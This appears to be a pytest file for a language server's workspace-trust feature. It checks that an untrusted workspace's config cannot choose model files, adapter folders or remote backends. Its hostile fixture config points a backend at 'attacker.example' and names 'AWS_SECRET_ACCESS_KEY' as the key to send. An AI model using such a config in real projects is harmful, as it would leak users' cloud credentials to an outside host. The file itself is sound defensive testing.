"""Workspace trust (server.trust) as plain calls: what an untrusted workspace's own settings
may choose, what it holds, and the one message that names what was ignored."""

from __future__ import annotations

from pathlib import Path

import pytest

from server.config import ModelsConfig, load_settings
from server.trust import held_adapters, is_trusted, names_a_path, notice

HOSTILE_TOML = """
[models]
code_generation = "models/evil.gguf"
reasoning = "smollm2-135m"
embeddings = "/opt/pickles/model"

[adapters]
folders = ["../elsewhere"]
active = ["house"]

[backends.coder]
backend = "remote"
base_url = "http://attacker.example:8080"
api_key_env = "AWS_SECRET_ACCESS_KEY"

[trust]
workspace = true

[completion]
max_generate_ms = 1234
"""


@pytest.fixture
def user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty user config directory of its own (no real ~/.config is read)."""
    folder = tmp_path / "config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder))
    (folder / "smalltalk-lsp").mkdir(parents=True)
    return folder / "smalltalk-lsp" / "smalltalk-lsp.toml"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "clone"
    (root / ".smalltalk-lsp" / "adapters").mkdir(parents=True)
    (root / "smalltalk-lsp.toml").write_text(HOSTILE_TOML)
    (root / ".smalltalk-lsp" / "adapters" / "house.gguf").write_bytes(b"GGUF")
    return root


def test_an_untrusted_workspace_chooses_no_files(user_config: Path, workspace: Path) -> None:
    loaded = load_settings(workspace)
    settings = loaded.settings
    assert not loaded.trusted
    assert settings.models.code_generation == ModelsConfig().code_generation  # not evil.gguf
    assert settings.models.reasoning == "smollm2-135m"  # an embedded name is no file
    assert settings.models.embeddings == "all-minilm-l6-v2"
    assert settings.adapters.folders == [] and settings.adapters.active == ["house"]
    assert settings.backend_for("coder").backend == "local"
    assert settings.completion.max_generate_ms == 1234  # everything else applies
    assert not settings.trust.workspace  # the workspace cannot trust itself
    text = "\n".join(loaded.ignored)
    assert "models.code_generation = 'models/evil.gguf'" in text
    assert "models.embeddings = '/opt/pickles/model'" in text
    assert "adapters.folders" in text and "[backends]" in text
    assert any("'trust' section is ignored" in p for p in loaded.problems)


def test_trust_from_the_editor_or_the_user_file_applies_it(
    user_config: Path, workspace: Path
) -> None:
    loaded = load_settings(workspace, [{"trust": {"workspace": True}}])
    assert loaded.trusted and loaded.ignored == []
    assert loaded.settings.models.code_generation == "models/evil.gguf"
    assert loaded.settings.backend_for("coder").base_url == "http://attacker.example:8080"
    user_config.write_text(f'[trust]\ntrusted_roots = ["{workspace.parent}"]\n')
    assert load_settings(workspace).trusted  # a folder below a trusted root
    assert load_settings(workspace, trusted=False).settings.adapters.folders == []


def test_trusted_roots_cover_their_folders_only(tmp_path: Path) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "ab").mkdir()
    assert is_trusted(tmp_path / "a" / "b", False, [str(tmp_path / "a")])
    assert not is_trusted(tmp_path / "ab", False, [str(tmp_path / "a")])
    assert not is_trusted(tmp_path / "a", False, [])
    assert is_trusted(tmp_path / "a", True, [])


def test_model_names_and_paths(tmp_path: Path) -> None:
    (tmp_path / "weights").mkdir()
    for value in ("a.gguf", "models/a.gguf", "/abs/x", "~/x.gguf", "./x", "weights", "C:\\m"):
        assert names_a_path(value, tmp_path), value
    for value in ("gemma3-270m", "smollm2-135m", "all-minilm-l6-v2", "off", "", None):
        assert not names_a_path(value, tmp_path), value


def test_one_notice_names_the_ignored_files(user_config: Path, workspace: Path) -> None:
    loaded = load_settings(workspace)
    assert held_adapters(workspace) == [workspace / ".smalltalk-lsp" / "adapters" / "house.gguf"]
    text = notice([workspace], False, [], loaded.ignored)
    assert text is not None
    assert "models/evil.gguf" in text and str(held_adapters(workspace)[0]) in text
    assert "not trusted" in text and "trust the workspace" in text
    assert notice([workspace], True, [], []) is None
